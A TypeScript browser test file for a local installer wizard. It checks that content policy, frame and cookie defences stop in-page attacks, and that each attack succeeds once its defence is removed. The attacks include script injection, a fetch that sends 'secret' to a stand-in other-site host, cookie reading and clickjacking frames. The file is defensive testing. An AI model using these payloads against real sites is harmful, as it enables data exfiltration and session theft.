/**
 * What only a browser enforces of the browser face's defences, in a real one: the same page does the same thing on the product's
 * server, where it comes to nothing, and on one that was composed without the defence, where it succeeds.
 */
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { allDefences, type Defences } from '../../installer/faces/http/defences.ts';
import { ownSite, type RequestRule } from '../../installer/faces/http/request-rules.ts';
import { type Served, startServer, tokenOf } from '../faces/support.ts';
import { workDirs } from '../fixtures/work-dir.ts';
import { openBrowser } from './walk.ts';

const workDir = workDirs();

let browser: Browser;
beforeAll(async () => {
  browser = await openBrowser();
});
afterAll(() => browser.close());

interface Visit {
  served: Served;
  page: Page;
  /** http://localhost:…, another site than the wizard's 127.0.0.1. */
  elsewhere: string;
  /** Requests that the other site got, by path. */
  leaked: string[];
  /** The cookies that came with each request for the page itself; what it loads then is its own site’s. */
  cookies: (string | undefined)[];
}

interface Control {
  defence: string;
  both?: Partial<Defences>;
  weakened: Partial<Defences>;
  attack: (visit: Visit) => Promise<boolean>;
}

const home = ({ served }: Visit) => `http://127.0.0.1:${served.server.port}/`;

/** As the wizard's own page does it. */
async function enterAsThePage({ page, served }: Visit): Promise<void> {
  const body = JSON.stringify({ token: tokenOf(served.server.url) });
  const status = await page.evaluate<number>(
    `fetch('/session', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '${body}' }).then((answer) => answer.status)`,
  );
  expect(status).toBe(204);
}

/** Something that got into the page asks for code or contact: true when it got it. */
const inPage = (code: string) => async (visit: Visit) => {
  await visit.page.goto(home(visit));
  return visit.page.evaluate<boolean>(code.replaceAll('ELSEWHERE', visit.elsewhere));
};

const headersOff: Partial<Defences> = { headers: () => ({}) };
const withCookie = (cookieAttributes: string): Partial<Defences> => ({
  entrance: { ...allDefences.entrance, cookieAttributes },
});

const controls: Control[] = [
  {
    defence: 'content policy: a script that was written into the page',
    weakened: headersOff,
    attack: inPage(`
      const script = document.createElement('script');
      script.textContent = 'window.ran = true';
      document.head.append(script);
      window.ran === true`),
  },
  {
    defence: 'content policy: a script from elsewhere',
    weakened: headersOff,
    attack: inPage(`new Promise((resolve) => {
      const script = document.createElement('script');
      script.src = 'ELSEWHERE/code.js';
      script.onload = () => resolve(true);
      script.onerror = () => resolve(false);
      document.head.append(script);
    })`),
  },
  {
    defence: 'content policy: what the page knows is sent elsewhere',
    weakened: headersOff,
    attack: async (visit) => {
      await visit.page.goto(home(visit));
      const send = `fetch('${visit.elsewhere}/leak', { mode: 'no-cors', method: 'POST', body: 'secret' })`;
      await visit.page.evaluate(`${send}.catch(() => undefined)`);
      return visit.leaked.includes('/leak');
    },
  },
  {
    defence: 'frames: another site shows the wizard within its own page',
    // The server knows a frame by what the browser says of it; an old browser says nothing.
    both: { rules: allDefences.rules.filter((rule) => rule !== ownSite) },
    weakened: headersOff,
    attack: async (visit) => {
      await visit.page.goto(visit.elsewhere);
      await visit.page.evaluate(`new Promise((resolve) => {
        const frame = document.createElement('iframe');
        frame.src = '${home(visit)}';
        frame.onload = resolve;
        document.body.append(frame);
      })`);
      const titles = await Promise.all(visit.page.frames().map((frame) => frame.title().catch(() => '')));
      return titles.includes('wizard');
    },
  },
  {
    defence: 'HttpOnly: a script reads the cookie',
    weakened: withCookie('Path=/; SameSite=Strict'),
    attack: async (visit) => {
      await visit.page.goto(home(visit));
      await enterAsThePage(visit);
      return (await visit.page.evaluate<string>('document.cookie')).includes('airgap_');
    },
  },
  {
    defence: 'SameSite: a link on another site brings the cookie along',
    weakened: withCookie('Path=/; HttpOnly'),
    attack: async (visit) => {
      await visit.page.goto(home(visit));
      await enterAsThePage(visit);
      await visit.page.goto(visit.elsewhere);
      visit.cookies.length = 0;
      await visit.page.evaluate(`location.href = '${home(visit)}'`);
      await visit.page.waitForURL(home(visit));
      expect(visit.cookies.length).toBeGreaterThan(0);
      return visit.cookies.some((cookie) => cookie?.includes('airgap_'));
    },
  },
];

async function outcome(attack: Control['attack'], changes: Partial<Defences>): Promise<boolean> {
  const leaked: string[] = [];
  const other = createServer((request, response) => {
    leaked.push(request.url ?? '');
    response.setHeader('content-type', request.url === '/code.js' ? 'text/javascript' : 'text/html');
    response.end(request.url === '/code.js' ? '' : '<!doctype html><title>elsewhere</title>');
  }).listen(0);
  await once(other, 'listening');
  const cookies: (string | undefined)[] = [];
  const note: RequestRule = (request) => {
    if (request.headers['sec-fetch-dest'] === 'document') cookies.push(request.headers.cookie);
    return undefined;
  };
  const defences = { ...allDefences, ...changes };
  const served = await startServer(await workDir(), {}, { ...defences, rules: [note, ...defences.rules] });
  const context = await browser.newContext();
  try {
    const elsewhere = `http://localhost:${(other.address() as AddressInfo).port}`;
    return await attack({ served, page: await context.newPage(), elsewhere, leaked, cookies });
  } finally {
    await context.close();
    await served.server.close();
    other.closeAllConnections();
    other.close();
  }
}

test.each(controls)('$defence', async ({ both = {}, weakened, attack }) => {
  expect(await outcome(attack, both), 'the product’s server').toBe(false);
  expect(await outcome(attack, { ...both, ...weakened }), 'without the defence').toBe(true);
});
